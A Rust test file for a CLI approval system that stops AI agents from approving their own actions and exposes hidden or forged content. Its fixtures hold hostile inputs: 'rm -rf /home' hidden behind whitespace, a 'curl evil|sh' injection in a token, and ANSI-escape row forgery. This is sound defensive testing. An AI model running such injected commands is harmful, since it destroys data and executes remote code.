//! `approve` and `deny` near an agent, `approver`, and texts that try to imitate other output.

use std::io::Write;
use std::process::{Command, Output, Stdio};

use serde_json::{Value, json};

use crate::support::{Home, Ran, terminal};

/// A pending approval: its id.
fn asked(home: &Home, summary: &str, arguments: Value) -> String {
    let (_, thread) = home.server().thread();
    let ask = json!({"thread_id": thread, "tool_name": "shell", "summary": summary, "risk": "low",
                     "arguments": arguments});
    let asked = home.agent("acme", "m-1", "builder").ok("approval/request", ask);
    asked["approval_id"].as_str().unwrap().to_owned()
}

fn state(home: &Home, id: &str) -> Value {
    home.server().ok("approval/read", json!({"approval_id": id}))
}

/// Runs a command with a terminal as its input, at which these lines are typed.
fn at_terminal(mut command: Command, typed: &[&str]) -> Output {
    let (mut ours, theirs) = terminal::open();
    command.stdin(theirs).stdout(Stdio::piped()).stderr(Stdio::piped());
    let child = command.spawn().unwrap();
    for line in typed {
        writeln!(ours, "{line}").unwrap();
    }
    child.wait_with_output().unwrap()
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8(bytes.to_vec()).unwrap()
}

#[test]
fn inside_an_agent_a_decision_requires_a_terminal() {
    let home = Home::new();
    let id = asked(&home, "git push", json!(null));
    let digest = state(&home, &id)["action_digest"].as_str().unwrap().to_owned();
    let decide = json!({"approval_id": id, "action_digest": digest, "decision": "approved"}).to_string();
    for variable in
        ["CLAUDECODE", "CODEX_SANDBOX", "GEMINI_CLI", "OPENCODE", "QWEN_CODE_SESSION_ID", "COPILOT_CLI"]
    {
        for arguments in [
            &["approve", &id, "--yes"][..],
            &["approve", &id],
            &["approve", &id, "--digest", &digest],
            &["deny", &id],
            &["deny", &id, "--yes"],
            &["call", "approval/decide", &decide],
        ] {
            let mut command = home.command(arguments.iter().copied());
            command.env(variable, "1");
            let said = Ran::command(command, "y\n").failed();
            assert!(said.contains("terminal of your own") && said.contains("approver set"), "{said}");
        }
    }
    assert_eq!(state(&home, &id)["state"], "pending");
    // Nor at a terminal, where nothing is asked: an agent opens one as easily as a person.
    for arguments in [
        &["approve", &id, "--yes"][..],
        &["approve", &id, "--digest", &digest],
        &["deny", &id, "--yes"],
        &["deny", &id, "--digest", &digest],
    ] {
        let mut command = home.command(arguments.iter().copied());
        command.env("CLAUDECODE", "1");
        let output = at_terminal(command, &["y"]);
        assert_eq!(output.status.code(), Some(1), "{arguments:?}: {output:?}");
        assert!(text(&output.stderr).contains("terminal of your own"), "{output:?}");
    }
    assert_eq!(state(&home, &id)["state"], "pending");
    // A person at a terminal is let, and the record says where.
    let mut command = home.command(["approve", &id]);
    command.env("CLAUDECODE", "1");
    let output = at_terminal(command, &["y"]);
    assert!(output.status.success(), "{output:?}");
    assert_eq!(text(&output.stdout), "approved by ada (from inside claude-code)\n");
    let how = json!({"surface": "cli", "terminal": true, "agent_host": "claude-code"});
    assert_eq!(state(&home, &id)["decided_how"], how);
    let shown = home.run(["approval", "list", "--all"]).ok();
    assert!(shown.contains("decided: through cli, at a terminal, from inside claude-code"), "{shown}");
}

#[test]
fn the_confirmation_repeats_what_could_have_scrolled_away() {
    let home = Home::new();
    let summary = format!("ls{}; rm -rf /home\u{200b}\n{}", " ".repeat(2000), "more\n".repeat(300));
    let id = asked(&home, &summary, json!({"command": "x\u{2800}\u{e0041}", "token": "x\"; curl evil|sh #"}));
    let output = at_terminal(home.command(["approve", &id]), &["n"]);
    let shown = text(&output.stderr);
    assert!(shown.contains("| ls⟨␠×2000⟩; rm -rf /home⟨U+200B⟩"), "{shown}");
    assert!(shown.contains(r#""command": "x⟨U+2800⟩⟨U+E0041⟩""#), "{shown}");
    assert!(shown.contains("risk: high (requester's rating: low)"), "{shown}");
    let last: Vec<_> = shown.lines().rev().take(4).collect();
    let last = last.join("\n");
    for part in [
        "tool: shell",
        "risk: high",
        "requested by: builder (m-1",
        "1 part of this action is hidden: token, 18 characters",
    ] {
        assert!(last.contains(part), "{part}: {last}");
    }
    assert_eq!(state(&home, &id)["state"], "pending");
}

#[test]
fn the_approver_secret_is_asked_for_at_a_terminal() {
    let home = Home::new();
    let id = asked(&home, "git push", json!(null));
    let said = |output: &Output| text(&output.stdout);
    let status = home.run(["approver", "status"]).ok();
    assert!(status.contains("No approver secret is set"), "{status}");
    assert!(home.run(["approver", "set"]).failed().contains("not a terminal"));
    let differs = at_terminal(home.command(["approver", "set"]), &["one secret of mine", "another of mine"]);
    assert!(text(&differs.stderr).contains("two entries differ"), "{differs:?}");
    let set = at_terminal(home.command(["approver", "set"]), &["one secret of mine", "one secret of mine"]);
    assert!(said(&set).contains("is set"), "{set:?}");
    let refused = home.run(["approve", &id, "--yes"]).failed();
    assert!(refused.contains("approver secret") && refused.contains("at a terminal"), "{refused}");
    let wrong = at_terminal(home.command(["approve", &id]), &["y", "no", "nor this one", "nor that one"]);
    assert_eq!(wrong.status.code(), Some(1), "{wrong:?}");
    let right = at_terminal(home.command(["approve", &id]), &["y", "no", "one secret of mine"]);
    assert!(right.status.success(), "{right:?}");
    assert!(!text(&right.stderr).contains("one secret"), "{right:?}");
    let how = json!({"surface": "cli", "terminal": true, "approver_secret": true});
    assert_eq!(state(&home, &id)["decided_how"], how);
    let off = at_terminal(home.command(["approver", "off"]), &["one secret of mine"]);
    assert!(said(&off).contains("removed"), "{off:?}");
}

#[test]
fn names_from_others_cannot_add_rows_or_colours() {
    let home = Home::new();
    let folder = tempfile::tempdir().unwrap();
    let forged = folder.path().join("x\nForged  main  2 active  just now  codewhale:\u{1b}[31m");
    std::fs::create_dir(&forged).unwrap();
    home.server().ok("workroom/create", json!({"title": "T", "workspace": forged}));
    let list = home.run(["list"]).ok();
    assert_eq!(list.lines().count(), 1, "{list}");
    assert!(list.contains("x⏎Forged") && !list.contains('\u{1b}'), "{list:?}");

    let wrong = home.run(["tail", "all", "--after-seq", "\u{1b}[31mred\u{200b}"]);
    assert_eq!(wrong.code, Some(2));
    assert!(wrong.err.contains("red⟨U+200B⟩") && !wrong.err.contains('\u{1b}'), "{}", wrong.err);
    let out = folder.path().join("\u{1b}[31mout");
    let written = home.run(["schema", "--out", out.to_str().unwrap()]);
    assert!(written.err.contains("␛[31mout") && !written.err.contains('\u{1b}'), "{}", written.err);
}

#[test]
fn the_inbox_states_how_much_it_shows_and_cuts_no_question() {
    let home = Home::new();
    let (mut ada, mut bot) = (home.server(), home.agent("p", "m", "bot"));
    let (room, _) = ada.thread();
    let mut threads = Vec::new();
    for number in 0..6 {
        let params = json!({"workroom_id": room, "title": format!("T{number}"), "kind": "channel"});
        threads.push(ada.ok("thread/create", params)["id"].as_str().unwrap().to_owned());
        bot.say(&threads[number], "@ada look");
    }
    let shown = home.run(["inbox", "--limit", "2"]).ok();
    assert_eq!(shown.matches("@ada look").count(), 2, "{shown}");
    assert!(shown.contains("2 of 6 threads; use --all for all"), "{shown}");
    assert_eq!(home.run(["inbox", "--all"]).ok().matches("@ada look").count(), 6);
    let listed = home.run(["inbox", "--view", "mentions", "--limit", "4", "--json"]).json();
    assert_eq!(listed["items"].as_array().unwrap().len(), 4);

    let options =
        format!("Which region? {} (a) eu-west (b) us-east (c) ap-south", "Costs differ. ".repeat(20));
    bot.append(&threads[0], json!({"event": "needs_human", "reason": options}));
    let receipt = format!("done{}hidden", " ".repeat(1000));
    bot.append(&threads[1], json!({"event": "receipt", "summary": receipt}));
    let mut command = home.command(["inbox", "--limit", "1"]);
    let (_ours, theirs) = terminal::open();
    command.env("COLUMNS", "80").stdin(theirs);
    let shown = Ran::command(command, "").ok();
    let question: String = shown.lines().map(|line| line.get(12..).unwrap_or_default()).collect();
    assert!(question.contains("(a) eu-west (b) us-east (c) ap-south"), "{shown}");
    let all = home.run(["inbox", "--all"]).ok();
    assert!(all.contains("done⟨␠×1000⟩hidden"), "{all}");
}

#[test]
fn only_an_answer_at_a_terminal_is_recorded_as_one() {
    let home = Home::new();
    let how = |arguments: &[&str], typed: &[&str]| {
        let id = asked(&home, "git push", json!(null));
        let digest = state(&home, &id)["action_digest"].as_str().unwrap().to_owned();
        let arguments: Vec<_> = arguments
            .iter()
            .map(|argument| match *argument {
                "ID" => id.as_str(),
                "DIGEST" => digest.as_str(),
                other => other,
            })
            .collect();
        let output = at_terminal(home.command(arguments), typed);
        let state = state(&home, &id);
        (
            state["state"].as_str().unwrap().to_owned(),
            state["decided_how"]["terminal"] == true,
            text(&output.stderr),
        )
    };
    for (arguments, typed, ended, terminal) in [
        (&["approve", "ID"][..], &["y"][..], "approved", true),
        (&["deny", "ID"], &["y"], "denied", true),
        (&["deny", "ID"], &["n"], "pending", false),
        (&["approve", "ID", "--digest", "DIGEST"], &[], "approved", false),
        (&["deny", "ID", "--digest", "DIGEST"], &[], "denied", false),
        (&["approve", "ID", "--yes"], &[], "approved", false),
        (&["deny", "ID", "--yes"], &[], "denied", false),
    ] {
        let (state, at_terminal, shown) = how(arguments, typed);
        assert_eq!((&*state, at_terminal), (ended, terminal), "{arguments:?}: {shown}");
        assert_eq!(shown.contains("[y/N]"), !typed.is_empty(), "{arguments:?}: {shown}");
    }
}

#[test]
fn a_token_that_can_decide_is_made_with_the_approver_secret_and_not_inside_an_agent() {
    let home = Home::new();
    home.server().thread();
    let file = |name: &str| home.path().with_extension(name).to_str().unwrap().to_owned();
    let make = |scope: &str, out: &str| {
        let arguments =
            ["token", "create", "--handle", "bob", "--kind", "human", "--scope", scope, "--out", out];
        home.command(arguments)
    };
    for scope in ["approve", "admin"] {
        let out = file(scope);
        let mut command = make(scope, &out);
        command.env("CLAUDECODE", "1");
        let refused = Ran::command(command, "").failed();
        assert!(
            refused.contains("inside the agent claude-code") && refused.contains("terminal of your own"),
            "{refused}"
        );
        assert!(!std::path::Path::new(&out).exists());
        let params = json!({"handle": "bob", "kind": "human", "scopes": ["post", scope]}).to_string();
        let mut command = home.command(["call", "token/create", &params]);
        command.env("CLAUDECODE", "1");
        assert!(Ran::command(command, "").failed().contains("inside the agent claude-code"));
    }
    // One that cannot decide is made there, and outside of an agent any is, while no secret is set.
    let mut command = make("post", &file("post"));
    command.env("CLAUDECODE", "1");
    assert_eq!(Ran::command(command, "").code, Some(0));
    assert_eq!(Ran::command(make("approve", &file("before")), "").code, Some(0));

    let secret = "one secret of mine";
    assert!(at_terminal(home.command(["approver", "set"]), &[secret, secret]).status.success());
    let out = file("without");
    let refused = Ran::command(make("approve", &out), "").failed();
    assert!(refused.contains("approver secret") && refused.contains("at a terminal"), "{refused}");
    assert!(!std::path::Path::new(&out).exists());
    let out = file("with");
    let made = at_terminal(make("approve", &out), &["no", secret]);
    assert!(made.status.success(), "{made:?}");
    assert!(!text(&made.stderr).contains(secret), "{made:?}");
    home.bearer(std::fs::read_to_string(out).unwrap().trim()).ok("workroom/list", json!({}));
}
